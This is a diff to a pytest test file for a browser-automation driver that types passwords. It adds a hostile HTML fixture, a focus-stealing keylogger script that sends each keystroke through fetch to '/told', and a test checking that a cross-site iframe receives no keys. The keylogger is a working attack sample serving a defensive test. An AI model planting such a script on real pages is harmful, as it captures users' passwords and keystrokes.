@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from contextlib import suppress
+
 import pytest
 
 from launcher.recipes.steps import Place
@@ -48,6 +50,15 @@ TURNCOATS = (
     """document.getElementById("name").focus()""",
     """event.target.type = "text" """,
 )
+
+
+THIEF = """<input id="x"><script>
+addEventListener("keydown", (event) => fetch("/told?" + event.key));
+setInterval(() => { window.focus(); document.getElementById("x").focus(); }, 1);
+</script>"""
+
+AUTO = """<input id="password" type="password"><script>
+document.getElementById("password").addEventListener("change", () => location.assign("/asks"))</script>"""
 
 
 class EngineDriverContract(WebDriverContract):
@@ -166,3 +177,30 @@ class EngineDriverContract(WebDriverContract):
 
         self.drive_page(walk)
         assert not [request for request in self.site.requests if request.path.startswith("/told")]
+
+    @pytest.mark.usefixtures("in_vain")
+    def test_a_frame_of_another_site_that_takes_the_focus_gets_no_key(self) -> None:
+        self.other_site.pages["/thief"] = THIEF
+        address = self.other.replace("127.0.0.1", "localhost")  # another site: engines give it a process of its own
+        self.site.pages["/framed"] = f'{FORM}<iframe id="box" src="{address}/thief"></iframe>'
+
+        async def walk(driver: WebDriver) -> None:
+            await driver.load(f"{self.own}/framed")
+            for _ in range(3):
+                with suppress(FieldFault):
+                    await driver.fill("#password", Secret(PASSWORD), hides=True, by_keys=True)
+
+        self.drive_page(walk)
+        assert not [request for request in self.other_site.requests if request.path.startswith("/told")]
+
+    def test_what_a_page_has_sent_by_itself_is_not_waited_for_by_the_next_press(self) -> None:
+        self.site.pages |= {"/auto": AUTO, "/asks": '<a id="go-on" href="/main">Go on</a>'}
+
+        async def walk(driver: WebDriver) -> None:
+            await driver.load(f"{self.own}/auto")
+            await driver.fill("#password", Secret(PASSWORD), hides=True, sends=True)
+            assert await driver.first_of([Place(selector="#go-on")], LONG_S) is not None
+            await driver.press("#go-on", "")
+            assert await driver.first_of([Place(selector="#main")], LONG_S) is not None
+
+        self.drive_page(walk)
